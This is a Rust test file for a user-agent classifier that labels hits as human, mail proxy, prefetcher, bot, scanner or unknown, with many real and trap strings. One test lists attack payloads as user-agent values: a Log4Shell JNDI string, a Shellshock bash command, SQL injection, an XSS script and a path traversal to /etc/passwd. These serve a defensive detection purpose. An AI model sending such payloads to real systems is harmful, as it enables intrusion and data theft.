//! Real user agents, and traps.

use super::*;
use std::collections::BTreeMap;

fn facts(user_agent: &str) -> Facts<'_> {
    Facts {
        user_agent,
        head_only: false,
        delta: Some(TimeDelta::hours(2)),
        prefetch: false,
        ..Facts::default()
    }
}

fn class(user_agent: &str) -> HitClass {
    classify(&facts(user_agent)).class
}

/// Real strings with the public fixture that each was found in.
fn data() -> Vec<(String, String)> {
    let mut reader = csv::Reader::from_reader(&include_bytes!("../../tests/data/user_agents.csv")[..]);
    reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            (record[0].to_owned(), record[1].to_owned())
        })
        .collect()
}

#[test]
fn real_user_agents_are_told_apart() {
    let mut wrong = BTreeMap::<&str, Vec<String>>::new();
    let (mut humans, mut machines) = (0_u32, 0_u32);
    for (user_agent, label) in data() {
        let class = class(&user_agent);
        let mut note = |what| {
            wrong
                .entry(what)
                .or_default()
                .push(format!("{class} for {label}: {user_agent}"));
        };
        match label.as_str() {
            "human_direct" => {
                humans += 1;
                match class {
                    class if class.is_machine() => note("human called machine"),
                    HitClass::Unknown => note("human unknown"),
                    _ => {}
                }
            }
            "human_proxy" if class != HitClass::HumanProxy => note("proxy"),
            "machine_prefetch" if class != HitClass::MachinePrefetch => note("prefetch"),
            "human_proxy" | "machine_prefetch" => {}
            _ => {
                machines += 1;
                match class {
                    class if class.is_human() => note("machine called human"),
                    HitClass::Unknown => note("machine unknown"),
                    _ => {}
                }
            }
        }
    }
    let n = |what: &str| wrong.get(what).map_or(0.0, |list| list.len() as f64);
    let (humans, machines) = (f64::from(humans), f64::from(machines));
    assert!(humans > 190.0 && machines > 120.0, "the set is there");
    assert_eq!(n("proxy") + n("prefetch"), 0.0, "{wrong:#?}");
    assert!(n("human called machine") <= 0.005 * humans, "{wrong:#?}");
    assert!(n("human unknown") <= 0.02 * humans, "{wrong:#?}");
    assert!(n("machine called human") <= 0.02 * machines, "{wrong:#?}");
    assert!(
        n("machine called human") + n("machine unknown") <= 0.05 * machines,
        "{wrong:#?}"
    );
}

/// Strings of others' fixtures, none of which a rule names whole, with where each was found.
#[test]
fn strangers_are_told_by_their_families() {
    let mut reader = csv::Reader::from_reader(&include_bytes!("../../tests/data/strangers.csv")[..]);
    let mut wrong = Vec::new();
    let mut n = 0;
    for record in reader.records() {
        let record = record.unwrap();
        let side = |class: HitClass| match class {
            HitClass::Unknown => "unknown",
            class if class.is_human() => "human",
            _ => "machine",
        };
        let verdict = classify(&facts(&record[0]));
        n += 1;
        if side(verdict.class) != &record[1] {
            wrong.push(format!(
                "{} ({}) for {}: {}",
                verdict.class, verdict.reason, &record[1], &record[0]
            ));
        }
    }
    assert!(n > 50, "the list is there");
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_name_behind_a_browsers_user_agent_is_a_machines_and_a_browsers_own_is_not() {
    let chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36";
    for (tail, wanted) in [
        ("", HitClass::HumanDirect),
        (" SomeLinkTool", HitClass::Bot),
        ("; SomeLinkTool", HitClass::Bot),
        (" (SomeLinkTool)", HitClass::HumanDirect),
        (" SomeBrowser/2.0", HitClass::HumanDirect),
        (" SomeBrowser", HitClass::HumanDirect),
        (" OPR/111.0.0.0", HitClass::HumanDirect),
        (" TV", HitClass::HumanDirect),
        (" example.com", HitClass::Bot),
        (" (+https://example.com/about)", HitClass::Bot),
    ] {
        let user_agent = format!("{chrome}{tail}");
        assert_eq!(class(&user_agent), wanted, "{user_agent}");
    }
    assert_eq!(
        class(&chrome.replace("like Gecko)", "like Gecko; Some Measuring)")),
        HitClass::Bot
    );
    assert_eq!(
        class(
            "Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en) AppleWebKit/419 (KHTML, like Gecko, Safari/419.3) OmniWeb/v607"
        ),
        HitClass::HumanDirect,
        "WebKit itself put Safari there once"
    );
}

#[test]
fn the_three_real_prefetchers_are_machines_and_their_neighbours_are_not() {
    let table = [
        ("Mozilla/5.0", HitClass::MachinePrefetch),
        ("Mozilla/5.0 ", HitClass::MachinePrefetch),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
            HitClass::HumanDirect,
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
            HitClass::HumanDirect,
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Mozilla/5.0",
            HitClass::MachinePrefetch,
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Gmail-content-sampling",
            HitClass::MachinePrefetch,
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 Safari/537.36 Edge/12.246",
            HitClass::HumanDirect,
        ),
    ];
    for (user_agent, wanted) in table {
        assert_eq!(class(user_agent), wanted, "{user_agent}");
    }
}

#[test]
fn mail_services_proxies_are_people_although_bot_lists_name_them() {
    for (user_agent, client) in [
        (
            "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
            "Gmail",
        ),
        (
            "YahooMailProxy; https://senders.yahooinc.com/mail-proxy-servers",
            "Yahoo",
        ),
        ("FastmailUA/1.0", "Fastmail"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) Chrome/55.0.2883.87 Safari/537.36 (via secureurl.fwdcdn.com - mail.ukr.net proxy)",
            "ukr.net",
        ),
        ("ExampleMail ImageProxy/2.1", "Mail service"),
    ] {
        let verdict = classify(&facts(user_agent));
        assert_eq!(
            (verdict.class, verdict.client.as_str()),
            (HitClass::HumanProxy, client),
            "{user_agent}"
        );
    }
    for user_agent in [
        "HootSuite Image proxy (hosting@hootsuite.com)",
        "Mozilla/5.0 (FlipboardProxy/0.0.5; +http://flipboard.com/browserproxy)",
    ] {
        assert!(class(user_agent).is_machine(), "no mail service: {user_agent}");
    }
}

#[test]
fn a_proxy_faster_than_any_person_is_unknown() {
    let gmail = "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)";
    for (delta, wanted) in [
        (Some(TimeDelta::milliseconds(2999)), HitClass::Unknown),
        (Some(TimeDelta::seconds(3)), HitClass::HumanProxy),
        (Some(TimeDelta::seconds(-5)), HitClass::HumanProxy),
        (None, HitClass::HumanProxy),
    ] {
        assert_eq!(
            classify(&Facts {
                delta,
                ..facts(gmail)
            })
            .class,
            wanted,
            "{delta:?}"
        );
    }
}

#[test]
fn who_sends_code_is_a_scanner_whatever_it_wears() {
    for user_agent in [
        "${jndi:ldap://example.org/x}",
        "() { :;}; /bin/bash -c 'id'",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' OR 1=(SELECT 1 FROM PG_SLEEP(15))--",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
    ] {
        assert_eq!(class(user_agent), HitClass::Scanner, "{user_agent}");
    }
}

#[test]
fn traps_of_vendor_names_and_phone_models_stay_people() {
    for user_agent in [
        "Mozilla/5.0 (Linux; Android 14; CUBOT KINGKONG 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Norton/131.0.0.0",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.2; Trident/6.0; McAfee; Kaspersky)",
        "Mozilla/5.0 (Linux; Android 8.0.0; Expanse) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.99 Mobile Safari/537.36",
        "Mozilla/4.0 (compatible; Lotus-Notes/6.0; Windows-NT)",
        "emclient/10.3.2619.0",
        "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.02",
    ] {
        assert_eq!(class(user_agent), HitClass::HumanDirect, "{user_agent}");
    }
}

#[test]
fn nothing_said_is_nothing_known() {
    assert_eq!(classify(&facts("")).reason, "no_ua");
    assert_eq!(classify(&facts("   ")).reason, "no_ua");
    assert_eq!(
        class("Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        HitClass::Unknown
    );
    assert_eq!(class("\u{fffd}\u{fffd}((((;;;)))"), HitClass::Unknown);
    let head = Facts {
        head_only: true,
        ..facts("Mozilla/5.0")
    };
    assert_eq!(
        classify(&head).class,
        HitClass::Scanner,
        "no mail client asks for headers only"
    );
    let early = Facts {
        prefetch: true,
        ..facts("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    };
    assert_eq!(classify(&early).class, HitClass::MachinePrefetch);
}

#[test]
fn families_are_named_for_people() {
    for (user_agent, client) in [
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
            "Apple Mail",
        ),
        (
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.6326; Pro)",
            "Outlook",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Thunderbird/115.9.0",
            "Thunderbird",
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Chrome",
        ),
        ("Barracuda Sentinel (EE)", "Barracuda"),
        ("NobodyKnowsMe/1.0", ""),
    ] {
        assert_eq!(classify(&facts(user_agent)).client, client, "{user_agent}");
    }
}
